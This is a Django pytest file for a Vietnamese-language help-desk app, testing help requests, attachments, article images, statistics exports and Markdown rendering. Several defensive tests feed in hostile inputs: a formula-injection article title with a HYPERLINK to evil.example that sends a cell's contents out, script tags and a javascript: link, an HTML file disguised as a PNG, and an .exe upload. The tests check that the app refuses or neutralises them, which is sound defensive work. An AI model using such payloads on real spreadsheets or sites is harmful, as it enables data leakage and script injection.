from __future__ import annotations

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from support.models import HelpRequest
from support.tests.factories import focal, help_request, software


def test_officer_asks_from_a_case_page_with_a_screenshot(world, client_for):  # noqa: ANN001
    focal(world.units["A"], world.officers["unit_manager"])
    client = client_for("officer")
    page = client.get(reverse("support:request-create") + "?from=/cases/7/")
    assert page.status_code == 200 and 'value="/cases/7/"' in page.content.decode()
    shot = SimpleUploadedFile("man-hinh.png", b"\x89PNG\r\n\x1a\n" + b"0" * 100, content_type="image/png")
    response = client.post(reverse("support:request-create"), {
        "software": software().pk, "subject": "Không ký được", "description": "Báo lỗi chứng thư",
        "page_url": "/cases/7/", "attachment": shot})
    request = HelpRequest.objects.get()
    assert response.status_code == 302 and response.url == reverse("support:request-detail", args=[request.pk])
    assert (request.page_url, request.requester, request.unit) == ("/cases/7/", world.officers["officer"], world.units["A"])
    download = client.get(reverse("support:request-attachment", args=[request.pk]))
    assert download.status_code == 200 and "attachment" in download["Content-Disposition"]
    detail = client.get(response.url).content.decode()
    assert "Phạm Quản Lý" in detail  # the focal person who answers


def test_bad_attachment_and_outside_page_address_are_refused(world, client_for, settings):  # noqa: ANN001
    settings.THADS_HELP_ATTACHMENT_MAX_MB = 1
    client = client_for("officer")
    big = SimpleUploadedFile("anh.png", b"0" * (1024 * 1024 + 1), content_type="image/png")
    response = client.post(reverse("support:request-create"), {"subject": "Lỗi", "attachment": big})
    assert response.status_code == 200 and "lớn hơn 1 MB" in response.content.decode()
    script = SimpleUploadedFile("virus.exe", b"MZ", content_type="application/octet-stream")
    response = client.post(reverse("support:request-create"), {"subject": "Lỗi", "attachment": script})
    assert "Đính kèm ảnh" in response.content.decode()
    assert not HelpRequest.objects.exists()
    client.post(reverse("support:request-create"), {"subject": "Lỗi", "page_url": "https://evil.example/"})
    assert HelpRequest.objects.get().page_url == ""


def test_focal_person_answers_with_an_article_and_the_officer_rates_it(world, client_for):  # noqa: ANN001
    from support.tests.factories import article

    focal(world.units["A"], world.officers["unit_manager"])
    request = help_request(world.officers["officer"])
    how_to = article(by=world.user("trainer"))
    helper = client_for("unit_manager")
    helper.post(reverse("support:request-reply", args=[request.pk]),
                {"body": "Xem hướng dẫn", "article": how_to.pk, "status": "done"})
    officer = client_for("officer")
    page = officer.get(reverse("support:request-detail", args=[request.pk])).content.decode()
    assert how_to.title in page and "Gửi đánh giá" in page
    officer.post(reverse("support:request-rate", args=[request.pk]), {"rating": "5", "comment": "Rất rõ"})
    request.refresh_from_db()
    assert request.rating == 5


def test_request_list_query_budget_does_not_grow(world, client_for, django_assert_max_num_queries):  # noqa: ANN001
    focal(world.units["P"], world.officers["admin"])
    for n in range(3):
        help_request(world.officers["other_b"], subject=f"Lỗi {n}")
    client = client_for("admin")
    client.get(reverse("support:request-list"))
    with django_assert_max_num_queries(8):
        assert client.get(reverse("support:request-list")).status_code == 200
    for n in range(20):
        help_request(world.officers["other_a1"], subject=f"Lỗi thêm {n}")
    with django_assert_max_num_queries(8):
        assert client.get(reverse("support:request-list")).status_code == 200


def test_figures_export_keeps_formula_like_titles_as_text(world, client_for):  # noqa: ANN001
    from io import BytesIO

    from openpyxl import load_workbook

    from support import services
    from support.tests.factories import article

    request = help_request(world.officers["officer"])
    trap = article(title='=HYPERLINK("http://evil.example/?x="&B3,"Xem")', by=world.user("trainer"))
    services.help_request_reply(request=request, body="Xem bài", article=trap, by=world.user("admin"))
    response = client_for("admin").get(reverse("support:stats") + "?months=6&format=xlsx")
    assert response.status_code == 200
    book = load_workbook(BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
    cell = book.worksheets[3]["A2"]
    assert cell.value == trap.title and cell.data_type == "s"  # shown as typed, never a live formula
    assert book.worksheets[0]["A1"].font.bold


def test_figures_show_the_most_asked_questions_with_their_requests_and_export_them(world, client_for):  # noqa: ANN001
    from io import BytesIO

    from openpyxl import load_workbook

    focal(world.units["A"], world.officers["unit_manager"])
    first = help_request(world.officers["officer"], subject="Không vào được phần mềm quản lý THA")
    second = help_request(world.officers["other_a1"], subject="khong vao duoc phan mem quan ly tha")
    third = help_request(world.officers["other_b"], subject="Phần mềm quản lý THA: không vào được")
    response = client_for("unit_manager").get(reverse("support:stats"))
    page = response.content.decode()
    assert response.status_code == 200, page[:300]
    assert "Câu hỏi gặp nhiều nhất" in page and "khong vao duoc phan mem quan ly tha" in page
    # the focal person of A opens the requests of A's subtree; B's is out of their scope and not counted
    assert reverse("support:request-detail", args=[first.pk]) in page
    assert reverse("support:request-detail", args=[second.pk]) in page
    assert reverse("support:request-detail", args=[third.pk]) not in page
    admin_page = client_for("admin").get(reverse("support:stats")).content.decode()
    assert reverse("support:request-detail", args=[third.pk]) in admin_page
    officer_page = client_for("provincial_leader").get(reverse("support:stats")).content.decode()
    assert "Phần mềm quản lý THA: không vào được" in officer_page  # counted, not linked: not theirs to open
    assert reverse("support:request-detail", args=[third.pk]) not in officer_page
    response = client_for("admin").get(reverse("support:stats") + "?months=6&format=xlsx")
    book = load_workbook(BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
    sheet = book.worksheets[4]
    assert [cell.value for cell in sheet[1]] == ["Câu hỏi", "Phần mềm", "Số yêu cầu", "Các cách hỏi (như cán bộ đã gõ)",
                                                 "Số của các yêu cầu"]
    assert [cell.value for cell in sheet[2]][1:] == [
        "Chữ ký số", 3, "Phần mềm quản lý THA: không vào được | khong vao duoc phan mem quan ly tha | "
                        "Không vào được phần mềm quản lý THA", f"{third.pk}, {second.pk}, {first.pk}"]


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 200


def test_a_writer_puts_a_picture_into_an_article_and_readers_see_it(world, client_for, settings, tmp_path):  # noqa: ANN001
    from support.models import Article, ArticleImage
    from support.tests.factories import article

    settings.MEDIA_ROOT = str(tmp_path)
    item = article()
    writer = client_for("trainer")
    edit = writer.get(reverse("support:article-edit", args=[item.pk])).content.decode()
    assert 'enctype="multipart/form-data"' in edit and "Thêm ảnh" in edit
    response = writer.post(reverse("support:article-image-upload", args=[item.pk]), {
        "image": SimpleUploadedFile("buoc-2.png", PNG, content_type="image/png"), "alt": "Chọn [Ký số]"})
    assert response.status_code == 302 and response.url == reverse("support:article-edit", args=[item.pk])
    picture = ArticleImage.objects.get(article=item)
    url = reverse("support:article-image", args=[picture.pk])
    item.refresh_from_db()
    assert item.body.endswith(f"\n\n![Chọn Ký số]({url})\n")
    page = client_for("officer").get(reverse("support:article-detail", args=[item.pk])).content.decode()
    assert f'<img alt="Chọn Ký số" src="{url}"' in page  # the Markdown rendered (sanitised), not escaped
    served = client_for("officer").get(url)
    assert served.status_code == 200 and served["Content-Type"] == "image/png"
    assert b"".join(served.streaming_content) == PNG and "attachment" not in served.get("Content-Disposition", "")
    # a draft's pictures: its writers only
    Article.objects.filter(pk=item.pk).update(is_published=False)
    assert client_for("officer").get(url).status_code == 404
    assert client_for("trainer").get(url).status_code == 200


def test_a_file_that_is_not_a_picture_or_too_large_is_refused_in_vietnamese(world, client_for, settings, tmp_path):  # noqa: ANN001
    from support.models import ArticleImage
    from support.tests.factories import article

    settings.MEDIA_ROOT = str(tmp_path)
    settings.THADS_HELP_ATTACHMENT_MAX_MB = 1
    item = article()
    writer = client_for("admin")
    body_before = item.body
    upload = reverse("support:article-image-upload", args=[item.pk])
    cases = [
        (SimpleUploadedFile("huong-dan.pdf", b"%PDF-1.4 ...", content_type="application/pdf"),
         "Chỉ đưa được ảnh vào bài hướng dẫn: PNG, JPG, GIF hoặc WebP."),
        (SimpleUploadedFile("gia-anh.png", b"<html><script>alert(1)</script>", content_type="image/png"),
         "Chỉ đưa được ảnh vào bài hướng dẫn: PNG, JPG, GIF hoặc WebP."),
        (SimpleUploadedFile("lon.png", PNG + b"\x00" * (1024 * 1024), content_type="image/png"), "Tệp lớn hơn 1 MB."),
    ]
    for file, message in cases:
        page = writer.post(upload, {"image": file}, follow=True).content.decode()
        assert message in page
    assert not ArticleImage.objects.exists()
    item.refresh_from_db()
    assert item.body == body_before  # nothing inserted into the article's text


def test_an_article_renders_its_markdown_sanitised(world, client_for):  # noqa: ANN001
    from support.tests.factories import article

    item = article(body="## Các bước\n\n1. Mở **Ký số**\n\n<script>alert(1)</script>[x](javascript:alert(1))")
    page = client_for("officer").get(reverse("support:article-detail", args=[item.pk])).content.decode()
    assert "<h3>Các bước</h3>" in page and "<strong>Ký số</strong>" in page
    assert "<script>alert(1)" not in page and "javascript:alert" not in page
